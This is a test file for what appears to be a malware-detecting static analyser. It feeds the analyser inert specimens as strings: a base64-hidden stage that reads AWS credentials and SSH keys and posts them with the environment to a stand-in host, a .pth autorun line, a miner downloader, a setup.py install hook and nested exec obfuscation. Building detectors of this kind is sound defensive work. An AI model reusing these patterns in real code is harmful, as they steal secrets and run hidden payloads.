"""The Python module on inert specimens of the shapes that incidents had."""

import base64
import zlib

import pytest

from lazaretto.core.facts import Kind, Moment
from lazaretto.core.language import NoUnits
from lazaretto.languages import python
from tests.languages.python_reading import flows, only, read, read_any, values

STAGE = (
    "import os, json, urllib.request\n"
    'for place in ["~/.aws/credentials", "~/.ssh/id_rsa"]:\n'
    "    text = open(os.path.expanduser(place)).read()\n"
    '    urllib.request.urlopen("https://models.invalid/up", data=json.dumps({"env": dict(os.environ), "text": '
    "text}).encode())\n"
)
BLOCK = base64.b64encode(STAGE.encode()).decode()


def assert_shows_the_stage(facts: object, moment: Moment = Moment.LOAD) -> None:
    """The hidden second stage is told at the place of the call that runs it, with the chain that hid it."""
    from lazaretto.core.facts import Facts

    assert isinstance(facts, Facts)
    hidden = [fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT]
    assert [(fact.value, fact.via, fact.moment) for fact in hidden] == [("https://models.invalid/up", "base64", moment)]
    assert set(values(facts, Kind.SECRET_READ)) == {"~/.aws/credentials", "~/.ssh/id_rsa"}
    assert {(Kind.SECRET_READ, Kind.NET_CONNECT), (Kind.ENV_DUMP, Kind.NET_CONNECT)} <= flows(facts)


def test_claims() -> None:
    """Python is claimed by its endings and by a shebang; ``.pth`` is a dialect of its own; nothing else is claimed."""
    dialects = {
        path: (claim.dialect, claim.rank) if (claim := python.claim(path, data)) else None
        for path, data in (
            ("a/b.py", b""),
            ("b.pyi", b""),
            ("tool", b"#!/usr/bin/env python3\n"),
            ("x.pth", b""),
            ("a.js", b"import os"),
        )
    }

    assert dialects == {
        "a/b.py": ("python", 50),
        "b.pyi": ("python", 50),
        "tool": ("python", 90),
        "x.pth": ("pth", 70),
        "a.js": None,
    }


def test_encoded_block_in_a_child_at_import() -> None:
    """A base64 block that a child interpreter decodes and runs at import is followed into the child."""
    facts = read(
        "import subprocess, sys\n"
        f'BLOCK = "{BLOCK}"\n'
        "subprocess.Popen([sys.executable, '-c', f\"import base64; exec(base64.b64decode('{BLOCK}'))\"])\n"
    )

    assert [fact.span.line for fact in facts.facts if fact.kind is Kind.PROCESS_SPAWN] == [3]
    assert "exec-chain" in values(facts, Kind.OBFUSCATED)
    hidden = [fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT]
    assert [fact.value for fact in hidden] == ["https://models.invalid/up"]
    assert hidden[0].via.endswith("base64")


def test_encoded_block_written_and_run() -> None:
    """A block that is decoded into a temporary file, which a child then runs, shows what it hides."""
    facts = read(
        "import base64, os, subprocess, sys, tempfile\n"
        f'BLOCK = "{BLOCK}"\n'
        "def run():\n"
        "    with tempfile.TemporaryDirectory() as folder:\n"
        '        path = os.path.join(folder, "p.py")\n'
        '        with open(path, "wb") as file:\n'
        "            file.write(base64.b64decode(BLOCK))\n"
        "        subprocess.run([sys.executable, path])\n"
        "run()\n"
    )

    assert_shows_the_stage(facts)
    assert {(Kind.DECODE, Kind.FS_WRITE), (Kind.FS_WRITE, Kind.PROCESS_SPAWN)} <= flows(facts)


def test_pth_one_liner() -> None:
    """A line of a ``.pth`` file that starts with ``import`` runs at every start; the other lines are paths."""
    facts = read(
        "# comment\n"
        "./lib\n"
        'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", '
        f"\"import base64; exec(base64.b64decode('{BLOCK}'))\"])\n",
        "pth",
    )

    assert_shows_the_stage(facts)
    assert values(facts, Kind.LITERAL_PATH)[0] == "./lib"
    assert {fact.span.line for fact in facts.facts if fact.kind is Kind.PROCESS_SPAWN} == {3}


def test_download_made_executable_and_started() -> None:
    """A miner that a constructor downloads and starts is reached through calls from the top level."""
    facts = read(
        "import os, platform, requests, subprocess\n"
        "def start(path):\n"
        "    os.chmod(path, 0o770)\n"
        '    subprocess.Popen([path, "-o", "pool.invalid:8080"])\n'
        "def download(url):\n"
        '    path = os.path.join("/tmp", "runner")\n'
        "    answer = requests.get(url)\n"
        '    with open(path, "wb") as file:\n'
        "        file.write(answer.content)\n"
        "    start(path)\n"
        "class Model:\n"
        "    def __init__(self):\n"
        '        if platform.system() == "Linux":\n'
        '            download("https://host.invalid/linux")\n'
        "        else:\n"
        '            download("https://host.invalid/mac")\n'
        "model = Model()\n"
    )

    assert values(facts, Kind.NET_CONNECT, Moment.LOAD) == ["https://host.invalid/linux", "https://host.invalid/mac"]
    assert values(facts, Kind.PROCESS_SPAWN, Moment.LOAD) == ["/tmp/runner -o pool.invalid:8080"]
    assert {(Kind.NET_CONNECT, Kind.FS_WRITE), (Kind.FS_WRITE, Kind.PROCESS_SPAWN)} <= flows(facts)


def test_nested_thrice() -> None:
    """Code inside code inside code is read to the bottom, each level told with its chain."""
    code = b"import os\nos.system('echo inert')\n"
    for _ in range(3):
        packed = base64.b64encode(zlib.compress(code))
        code = b"import zlib, base64\nexec(zlib.decompress(base64.b64decode(%r)))\n" % packed

    facts = read(code.decode())

    spawn = only(facts, Kind.PROCESS_SPAWN)
    assert (spawn.value, spawn.via) == ("echo inert", ">".join(["base64", "zlib"] * 3))
    assert len(values(facts, Kind.CODE_EVAL)) == 3
    assert spawn.span.line == 2
    assert (Kind.DECODE, Kind.CODE_EVAL) in flows(facts)


def test_deeper_than_followed_is_a_problem() -> None:
    """Text inside text beyond the bound makes the file incomplete."""
    facts = read_any("code = 'exec(code)'\nexec(code)\n")

    assert [problem.reason for problem in facts.problems] == ["code inside code, deeper than 4 levels"]


def test_setup_commands_run_at_install() -> None:
    """``run`` of a class given to ``setup(cmdclass=...)`` runs by itself; so does the main guard there."""
    facts = read(
        "import os\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Hook(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        '        os.system("echo install")\n'
        "    def unrelated(self):\n"
        '        os.system("echo never")\n'
        'if __name__ == "__main__":\n'
        '    setup(name="x", cmdclass={"install": Hook})\n'
    )

    assert values(facts, Kind.PROCESS_SPAWN, Moment.LOAD) == ["echo install"]
    assert values(facts, Kind.PROCESS_SPAWN, Moment.CALL) == ["echo never"]


def test_moments() -> None:
    """Class bodies, defaults, decorators, threads and exit handlers run at load; functions and main guards do not."""
    facts = read(
        "import atexit, os, threading\n"
        "def later(): os.system('call')\n"
        "class Body:\n"
        "    os.system('body')\n"
        "def default(x=os.system('default')): pass\n"
        "def decorate(function):\n"
        "    function()\n"
        "    return function\n"
        "@decorate\n"
        "def decorated(): os.system('decorated')\n"
        "threading.Thread(target=lambda: os.system('thread')).start()\n"
        "atexit.register(os.system, 'exit')\n"
        "if __name__ == '__main__':\n"
        "    os.system('main')\n"
    )

    load = values(facts, Kind.PROCESS_SPAWN, Moment.LOAD)
    assert set(load) == {"body", "default", "decorated", "thread", "exit"}
    assert values(facts, Kind.PROCESS_SPAWN, Moment.CALL) == ["call", "main"]


def test_a_name_decoded_for_getattr_is_told() -> None:
    """Who spells ``__import__`` in character codes hides what is loaded, wherever the text comes from."""
    facts = read("i = getattr(__builtins__, ''.join(chr(x) for x in [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))\n")

    (told,) = (fact for fact in facts.facts if fact.kind is Kind.IMPORT)

    assert told.value == "builtins.__import__"
    assert told.via.startswith("chr")


@pytest.mark.parametrize("error", [MemoryError, SystemError])
def test_a_lack_of_room_is_no_property_of_a_file(error: type[Exception], monkeypatch: pytest.MonkeyPatch) -> None:
    """It is raised: another process may have the room. Any other failure is a problem of the file."""

    def fails(*_: object) -> None:
        raise error

    monkeypatch.setattr("lazaretto.languages.python.reader.read_pieces", fails)
    with pytest.raises(error):
        python.read("python", b"x = 1\n", NoUnits())
